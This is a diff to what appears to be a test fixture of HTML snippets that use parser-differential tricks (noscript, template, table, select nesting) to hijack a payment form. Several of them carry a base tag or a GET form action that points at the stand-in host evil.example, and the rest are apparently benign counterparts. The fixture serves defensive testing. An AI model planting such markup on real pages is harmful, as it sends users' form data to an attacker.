@@ -104,6 +104,12 @@ const MISREAD = {
   "/misread/noscript-xmp": `<form><noscript><xmp></noscript></form><form method="post" action="/orders"></xmp></noscript><input name="q"><button>Pay</button></form>`,
   "/misread/select-div": `<form id="x" method="post"><div><select></div></form><input type="submit" formmethod="get" formaction="https://evil.example/c" value="Look"><input name="q">`,
   "/misread/select-fieldset": `<form id="x" method="post"><fieldset><select></fieldset></form><input type="submit" formmethod="get" value="Look"><input name="q">`,
+  // The sixth's: a base a browser moves out before a table (ahead of a pin
+  // in a cell), and elements a <noscript> leaves open (a template that
+  // keeps a GET form as the browser's form, or swallows the pin).
+  "/misread/table-base": `<table><tr><td><form method="post" action="orders"><input name="q"><button>Pay</button></form></td></tr><base href="https://evil.example/"></table>`,
+  "/misread/noscript-template": `<noscript><template></noscript><form method="post"></form></template><form method="post" action="orders"><input name="q"><button>Pay</button></form><base href="https://evil.example/">`,
+  "/misread/noscript-template-get": `<form method="get" action="https://evil.example/c"><noscript><template></noscript></form></template><form method="post" action="/orders"><input name="q"><button>Pay</button></form>`,
 };
 // Markup common on real pages that reads alike to both: keys as usual.
 const STILL_KEYED = `<!doctype html><noscript><img height="1" width="1" style="display:none" src="/px?id=1&amp;ev=PageView&amp;noscript=1"/></noscript><form method="post" action="/orders"><button><svg viewBox="0 0 1 1"><title>Cart</title><path d="M0 0"/></svg>Pay</button></form>
